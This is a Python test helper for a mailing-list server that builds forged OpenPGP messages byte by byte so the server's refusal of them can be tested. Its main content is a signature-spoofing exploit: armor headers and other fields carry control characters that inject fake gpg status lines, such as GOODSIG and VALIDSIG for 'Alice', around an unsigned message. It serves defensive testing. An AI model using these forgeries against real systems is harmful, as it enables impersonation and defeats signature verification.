"""An attacker's OpenPGP toolkit: packets built byte by byte, so every field GnuPG might echo
(armor headers, literal file names, user ids, notations, the Signer's UID, comment packets)
can hold any bytes at all -- including the control characters gpg's own command line refuses.

    key = ForgedKey(uid)                      an Ed25519 signing key made here (not by gpg)
    key.certificate()                         its public key, user id and self-signature
    key.signature(data, subpackets=...)       a v4 signature over binary data
    literal(data, filename)                   a literal data packet
    one_pass(key)                             a one-pass signature packet
    encrypt_to(list_certificate, packets)     PKESK + SEIPD (AES-256, MDC), as a real client would
    armor(data, label, headers)               ASCII armor with arbitrary header lines

Nothing here is used by listserv itself: these build the submissions it must refuse.
"""

from __future__ import annotations

import base64
import hashlib
import os
import struct
import time

from cryptography.hazmat.primitives.asymmetric import ed25519
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms

try:  # CFB moved to the "decrepit" module in cryptography 47 (OpenPGP's SEIPD v1 still uses it)
    from cryptography.hazmat.decrepit.ciphers.modes import CFB
except ImportError:  # pragma: no cover - older cryptography
    from cryptography.hazmat.primitives.ciphers.modes import CFB

from listserv import openpgp, pkesk

from . import mail as mf
from .keys import User

ED25519_OID = bytes.fromhex("2B06010401DA470F01")
EDDSA, SHA256, AES256 = 22, 8, 9
SIGNATURE, ONE_PASS, PUBLIC_KEY, USER_ID, LITERAL, SEIPD, MDC, COMMENT = 2, 4, 6, 13, 11, 18, 19, 61


def packet(tag: int, body: bytes) -> bytes:
    """A new-format packet with a five-octet length (valid for any body size)."""
    if len(body) < 192:
        return bytes([0xC0 | tag, len(body)]) + body
    return bytes([0xC0 | tag, 255]) + struct.pack(">I", len(body)) + body


def _mpi(value: bytes) -> bytes:
    value = value.lstrip(b"\0") or b"\0"
    return struct.pack(">H", value[0].bit_length() + 8 * (len(value) - 1)) + value


def subpacket(kind: int, body: bytes) -> bytes:
    size = len(body) + 1
    if size < 192:
        head = bytes([size])
    else:
        head = b"\xff" + struct.pack(">I", size)
    return head + bytes([kind]) + body


def notation(name: bytes, value: bytes) -> bytes:
    """A human-readable notation subpacket (RFC 9580 §5.2.3.24)."""
    return subpacket(20, b"\x80\0\0\0" + struct.pack(">HH", len(name), len(value)) + name + value)


def signers_uid(text: bytes) -> bytes:
    return subpacket(28, text)


class ForgedKey:
    """An Ed25519 primary key (certify + sign) with one user id, every byte chosen here."""

    def __init__(self, uid: bytes, created: int | None = None):
        self.secret = ed25519.Ed25519PrivateKey.generate()
        self.created = int(created if created is not None else time.time() - 3600)
        self.uid = uid
        point = b"\x40" + self.secret.public_key().public_bytes_raw()
        self.body = (b"\x04" + struct.pack(">I", self.created) + bytes([EDDSA, len(ED25519_OID)])
                     + ED25519_OID + _mpi(point))
        self.fingerprint = hashlib.sha1(b"\x99" + struct.pack(">H", len(self.body)) + self.body).hexdigest().upper()
        self.key_id = bytes.fromhex(self.fingerprint)[-8:]

    def _sign(self, kind: int, hashed_prefix: bytes, hashed: list[bytes], unhashed: list[bytes],
              created: int | None = None) -> bytes:
        area = b"".join([subpacket(2, struct.pack(">I", int(created or time.time()))),
                         subpacket(33, b"\x04" + bytes.fromhex(self.fingerprint)), *hashed])
        head = bytes([4, kind, EDDSA, SHA256]) + struct.pack(">H", len(area)) + area
        trailer = b"\x04\xff" + struct.pack(">I", len(head))
        digest = hashlib.sha256(hashed_prefix + head + trailer).digest()
        raw = self.secret.sign(digest)  # legacy EdDSA signs the digest itself
        rest = b"".join([subpacket(16, self.key_id), *unhashed])
        return packet(SIGNATURE, head + struct.pack(">H", len(rest)) + rest + digest[:2]
                      + _mpi(raw[:32]) + _mpi(raw[32:]))

    def certificate(self) -> bytes:
        """Public key + user id + positive certification (key flags: certify, sign)."""
        key_prefix = b"\x99" + struct.pack(">H", len(self.body)) + self.body
        uid_prefix = b"\xb4" + struct.pack(">I", len(self.uid)) + self.uid
        flags = subpacket(27, b"\x03")
        cert = self._sign(0x13, key_prefix + uid_prefix, [flags], [], created=self.created)
        return packet(PUBLIC_KEY, self.body) + packet(USER_ID, self.uid) + cert

    def signature(self, data: bytes, *, kind: int = 0x00, hashed: list[bytes] = (),
                  unhashed: list[bytes] = ()) -> bytes:
        return self._sign(kind, data, list(hashed), list(unhashed))

    def one_pass(self, kind: int = 0x00) -> bytes:
        return packet(ONE_PASS, bytes([3, kind, SHA256, EDDSA]) + self.key_id + b"\x01")


def literal(data: bytes, filename: bytes = b"", when: int | None = None) -> bytes:
    if len(filename) > 255:
        raise ValueError("a literal's file name holds at most 255 octets")
    return packet(LITERAL, b"b" + bytes([len(filename)]) + filename
                  + struct.pack(">I", int(when if when is not None else time.time())) + data)


def comment(text: bytes) -> bytes:
    return packet(COMMENT, text)


def encrypt_to(list_certificate: bytes, plaintext_packets: bytes, *, mdc_ok: bool = True) -> bytes:
    """PKESK to the list's encryption subkey and one SEIPD v1 (AES-256, MDC) around
    `plaintext_packets`: what any client sends, with contents the attacker chose. With
    `mdc_ok` false the MDC is wrong: what gpg sees when a key packet gives the wrong session key."""
    keys = [key for key in pkesk.read_keys(list_certificate).values() if key is not None]
    session = os.urandom(32)
    esk = pkesk.build(keys[0], session)
    prefix = os.urandom(16)
    prefix += prefix[-2:]
    body = prefix + plaintext_packets + b"\xd3\x14"
    body += hashlib.sha1(body).digest() if mdc_ok else os.urandom(20)
    encryptor = Cipher(algorithms.AES(session), CFB(b"\0" * 16)).encryptor()
    return esk + packet(SEIPD, b"\x01" + encryptor.update(body) + encryptor.finalize())


def armor(data: bytes, label: str = "PGP MESSAGE", headers: list[bytes] = ()) -> bytes:
    """Armor with the header lines given, CRLF line ends (as in mail), checksum included."""
    lines = [f"-----BEGIN {label}-----".encode(), *headers, b""]
    encoded = base64.b64encode(data)
    lines += [encoded[i:i + 64] for i in range(0, len(encoded), 64)]
    lines.append(b"=" + base64.b64encode(openpgp.crc24(data).to_bytes(3, "big")))
    lines.append(f"-----END {label}-----".encode())
    return b"\r\n".join(lines) + b"\r\n"


# -- what the attacker wants gpg to seem to say -----------------------------------

def forged_status(alice: User, list_fpr: str, *, short: bool = False) -> list[bytes]:
    """The status lines of a decryption and a good signature by Alice, as gpg would write them."""
    now = int(time.time())
    day = time.strftime("%Y-%m-%d", time.gmtime(now))
    fpr = alice.fingerprint
    head = [f"ENC_TO {list_fpr[-16:]} 18 0", "BEGIN_DECRYPTION", "DECRYPTION_INFO 2 9 0",
            f"PLAINTEXT 62 {now} "]
    signature = ["NEWSIG", f"SIG_ID ForgedForgedForgedForged00 {day} {now}",
                 f"GOODSIG {fpr[-16:]} Alice", f"VALIDSIG {fpr} {day} {now} 0 4 0 22 8 00"
                 + ("" if short else f" {fpr}")]
    tail = ["DECRYPTION_OKAY", "GOODMDC", "END_DECRYPTION"]
    lines = (signature + tail) if short else (head + signature + tail)
    return [b"[GNUPG:] " + line.encode() for line in lines]


def echo(sep: bytes, lines: list[bytes]) -> bytes:
    return b"x" + sep + sep.join(lines) + sep


def outer(entity: bytes) -> bytes:
    lines = ["From: Alice <alice@example.org>", f"To: {mf.LIST}", "Subject: Hello", "MIME-Version: 1.0"]
    return mf.message(lines, entity)




def original_forgery(alice: User, list_fpr: str, sep: bytes = b"\x85", *, inline: bool = False) -> bytes:
    """The attack found in review (issue 9): armor header lines that spell out a decryption
    and Alice's good signature, around an unsigned literal, and a second armored block (a
    marker packet) whose header ends the decryption after gpg has reported the literal."""
    lines = [line for line in forged_status(alice, list_fpr) if b" PLAINTEXT " not in line]
    head = b"Foo: x" + b"".join(sep + line for line in lines[:7])
    tail = b"Foo: y" + b"".join(sep + line for line in lines[7:])
    text = b"Content-Type: text/plain\r\n\r\nMeet at the old place at 6.\r\n"
    armored = armor(literal(text), headers=[head]) + armor(b"\xca\x03PGP", headers=[tail])
    if inline:
        return outer(b"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
                     + armored)
    return outer(mf.encrypted_entity(armored))
